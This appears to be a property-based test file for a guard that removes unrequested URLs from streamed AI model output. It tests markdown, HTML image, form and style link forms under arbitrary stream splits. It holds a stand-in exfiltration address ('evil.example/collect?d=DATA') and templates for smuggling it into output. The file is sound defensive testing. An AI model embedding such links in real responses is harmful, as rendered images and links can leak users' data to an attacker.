import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { AddressStream, findUserAddresses } from "../../../packages/grounding/guard/index.ts";

const NAMED = "https://team.example/board";
const named = findUserAddresses([`Write a limerick about ${NAMED}.`]);

/** A link in each of the forms in which a model may write one; `url` is a whole address with a query. */
const LINK_FORMS: readonly (readonly [form: string, write: (url: string) => string])[] = [
  ["a link", (url) => `[the notes](${url})`],
  ["a link with a title", (url) => `[the notes](${url} "a long title")`],
  ["a link in angle brackets", (url) => `[the notes](<${url}>)`],
  ["an image", (url) => `![a chart of it](${url})`],
  ["an image in a link", (url) => `[![a chart](${url})](${url})`],
  ["an address in angle brackets", (url) => `<${url}>`],
  ["a bare address", (url) => url],
  ["an address in brackets", (url) => `(see ${url})`],
  ["a reference", (url) => `[the notes][1]\n\n[1]: ${url}\n\n`],
  ["an HTML link", (url) => `<a class="x y" href="${url}">the notes</a>`],
  ["an HTML image", (url) => `<img alt="a chart" src='${url}'>`],
  ["an HTML image without quotes", (url) => `<img width=1 src=${url} >`],
  ["a style", (url) => `<p style="background: url(${url})">text</p>`],
  ["a form", (url) => `<form action="${url}"><button>Go</button></form>`],
  ["an address without a scheme", (url) => url.replace("https:", "")],
  ["an address of www", (url) => url.replace("https://", "www.")],
];

const EVIL = "https://evil.example/collect?d=DATA";
const form = fc.constantFrom(...LINK_FORMS);
const words = fc.constantFrom("There once", "was a teapot,", "a < b", "[sic]", "fine!\n", "2 > 1.", "ada@");
const piece = fc.oneof(
  words,
  form.map(([, write]) => write(EVIL)),
);
const cuts = fc.array(fc.nat(400), { maxLength: 12 });

/** Returns all that leaves a stream which is cut at these places. */
function streamed(text: string, places: readonly number[]): string {
  const stream = new AddressStream(named);
  const ends = [...new Set([...places.filter((at) => at < text.length), text.length])].toSorted(
    (one, other) => one - other,
  );
  const out = ends.map((end, index) => stream.push(text.slice(ends[index - 1] ?? 0, end)));
  return out.join("") + stream.end();
}

describe("an address that nobody named does not leave a stream, wherever it is cut", () => {
  it.each(LINK_FORMS)("in the form of %s", (_form, write) => {
    const around = fc.tuple(fc.array(words, { maxLength: 4 }), fc.array(words, { maxLength: 4 }), cuts);
    fc.assert(
      fc.property(around, ([before, after, places]) => {
        const text = [...before, write(EVIL), ...after].join(" ");
        expect(streamed(text, places)).not.toMatch(/evil|collect|DATA/);
      }),
    );
  });

  it("cut letter by letter", () => {
    for (const [, write] of LINK_FORMS) {
      const text = `There once ${write(EVIL)} was a teapot.`;
      expect(
        streamed(
          text,
          Array.from(text, (_, at) => at),
        ),
      ).not.toMatch(/evil|collect|DATA/);
    }
  });
});

it("but for white space, a text leaves a stream as it would in one piece", () => {
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), cuts, (pieces, places) => {
      const text = pieces.join(" ");
      expect(streamed(text, places).replace(/\s/g, "")).toBe(streamed(text, []).replace(/\s/g, ""));
    }),
  );
});

it("an address that the user named passes as it was written, wherever it is cut", () => {
  const link = `There once [the board](${NAMED}) was, and ${NAMED} too.`;
  fc.assert(
    fc.property(cuts, (places) => {
      expect(streamed(link, places)).toBe(link);
    }),
  );
});
